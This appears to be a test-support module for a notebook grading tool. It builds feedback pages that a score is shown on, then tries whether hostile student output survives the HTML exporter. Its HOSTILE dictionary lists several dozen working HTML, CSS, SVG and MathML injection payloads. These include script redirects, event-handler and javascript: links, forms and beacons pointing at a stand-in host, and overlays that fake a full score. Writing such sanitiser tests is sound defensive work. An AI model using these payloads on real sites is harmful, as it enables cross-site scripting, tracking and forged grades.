"""What a hostile hand-in may show, and a page of feedback that shows it beside a score."""

import html

import nbformat

from ecotools.grading.feedback.cells import CellFeedback
from ecotools.grading.feedback.exporter import to_html

AWAY = "https://away.example"
_FIXED = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999"
_FRAME = html.escape(f"<script>parent.location='{AWAY}/srcdoc'</script>")
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30"'

# By what each of them is after.
HOSTILE = {
    "a refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
    "a fixed cover": f'<div style="{_FIXED}">Score: 9 / 9</div>',
    "a cover by a class of the page": '<div class="navbar navbar-fixed-top modal">Score: 9 / 9</div>',
    "a cover by a margin": '<div style="margin-top:-3000px;height:6000px;background:#fff">9 / 9</div>',
    "a cover by a transform": '<div style="transform:translateY(-900px) scale(90);background:red">9</div>',
    "a shadow as a cover": '<div style="box-shadow:0 0 0 9999px #fff;outline:9999px solid #fff">9 / 9</div>',
    "a large picture as a cover": '<b style="font-size:9000px;line-height:0;white-space:nowrap">█████</b>',
    "a form": f'<form action="{AWAY}/form" method="post"><input name=a><button id=go>Go</button></form>',
    "a button for a form elsewhere": f'<button id=go form=f formaction="{AWAY}/button">Go</button>',
    "a script": f"<script>location = '{AWAY}/script'</script>",
    "a script that loads": f'<script src="{AWAY}/x.js"></script>',
    "an event of a picture": f"<img src=none.png onerror=\"location='{AWAY}/onerror'\">",
    "events of an element": "<p onmouseover=alert(1) onfocus=alert(2) autofocus tabindex=1>x</p>",
    "a toggle": "<details open ontoggle=alert(1)><summary>more</summary>x</details>",
    "a link to a script": '<a href="javascript:alert(document.domain)">click</a>',
    "a hidden link to a script": '<a href=" java&#9;script&#58;alert(1)">click</a>',
    "a link over the page": f'<a target="_top" href="{AWAY}/top">click</a>',
    "a link to a page in itself": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "a link to a file beside": '<a href="evil.html">click</a>',
    "a picture map": f'<img src="{AWAY}/m.png" usemap="#m"><map name=m><area href="{AWAY}/area"></map>',
    "a picture from afar": f'<img src="{AWAY}/beacon.png" srcset="{AWAY}/2.png 2x" alt="dot">',
    "a picture without a scheme": '<img src="//away.example/beacon.png"><img src=\\\\away.example\\b.png>',
    "a frame": f'<iframe src="{AWAY}/frame"></iframe>',
    "a frame with a page in it": f'<iframe srcdoc="{_FRAME}"></iframe>',
    "a frame of data": '<iframe src="data:text/html,<script>top.location=1</script>"></iframe>',
    "an object": f'<object data="{AWAY}/object"></object><embed src="{AWAY}/embed">',
    "a base": f'<base href="{AWAY}/" target="_top"><a href="#top">click</a>',
    "a sheet that loads": f"<style>@import url({AWAY}/a.css); body {{ background: url({AWAY}/b) }}</style>",
    "a sheet from afar": f'<link rel=stylesheet href="{AWAY}/a.css"><link rel=dns-prefetch href="{AWAY}">',
    "a sheet for the page": "<style>body,.panel-heading,h1,#toc,.outcome{display:none!important}</style>",
    "a sheet that looks out": "<style>+ *, ~ *, & *, :has(*) h1, :not(x) {display:none!important}</style>",
    "a sheet that ends early": '<style>b{font-family:"</style><script>alert(1)</script>"}</style>',
    "a style that loads": f'<p style="background:url({AWAY}/bg);cursor:url({AWAY}/c),auto">x</p>',
    "a style in other letters": f'<p style="back\\67round:u\\72l({AWAY}/bg);p\\6fsition:fixed">x</p>',
    "a drawing with a script": f"<svg {_SVG}><script>location='{AWAY}/svg'</script><text y=20>x</text></svg>",
    "a drawing that loads": f'<svg {_SVG}><image href="{AWAY}/i.png"/><use href="{AWAY}/u.svg#a"/></svg>',
    "a page in a drawing": f'<svg {_SVG}><foreignObject><iframe src="{AWAY}/fo"/></foreignObject></svg>',
    "a link that is changed": f'<svg {_SVG}><a><set attributeName="href" to="{AWAY}/a"/>go</a></svg>',
    "a drawing left open": f"<svg><style><img src=x onerror=\"location='{AWAY}/mxss'\"></style>",
    "formulas as elements": f'<math><mtext><table><mglyph><style><img src=x onerror="location=\'{AWAY}/m\'">',
    "the end of the page": f'</div></div></div></main></body></html><h1 style="position:fixed">{AWAY}</h1>',
    "the end of a comment": "--><!--><img src=x onerror=alert(1)>-->",
    "an id of the page": '<h1 id="q1-check">Score: 9 / 9</h1><a id="top" name="toc">x</a>',
    "a film": f'<video src="{AWAY}/v" poster="{AWAY}/p" autoplay></video><audio src="{AWAY}/a" autoplay>',
    "a shadow tree": f"<x-y><template shadowrootmode=open><style>:host{{{_FIXED}}}</style>9</template></x-y>",
    "a dialog": f'<dialog open style="{_FIXED}">9 / 9</dialog><p popover id=p>x</p>',
}  # fmt: skip
HARMLESS = "<b>7</b>"
DRAWING = f"<svg {_SVG}><title>A word</title><text y='20'>x</text></svg>"


def page_of(folder, *, output=None, text="", drawing="", data=None):
    """Return a page with a right and a wrong answer; what is to be tried stands before, between and after."""
    outputs = [] if output is None else [{"text/html": output}]
    outputs += [{"image/svg+xml": drawing}] if drawing else []
    outputs += [data] if data else []
    cells = []
    for name, outcome in (("q1", "right"), ("q2", "wrong")):
        if text:
            cells.append(nbformat.v4.new_markdown_cell(text))
        answer = nbformat.v4.new_code_cell("share(1, 2)", execution_count=1)
        answer.outputs = [nbformat.v4.new_output("display_data", one) for one in outputs]
        check = nbformat.v4.new_code_cell(f"assert {name}", execution_count=2)
        check.metadata["told"] = CellFeedback(
            f"{name}-check", "Test cell", "1.0 / 2.0", outcome, "As it is.", "info"
        )
        cells += [answer, check]
    page = {"notebook": "01-shares", "score": 2.0, "max_score": 4.0, "late_penalty": 0.0, "waiting": 0}
    return to_html(nbformat.v4.new_notebook(cells=cells), {**page, "missing": [], "key": ""}, folder)
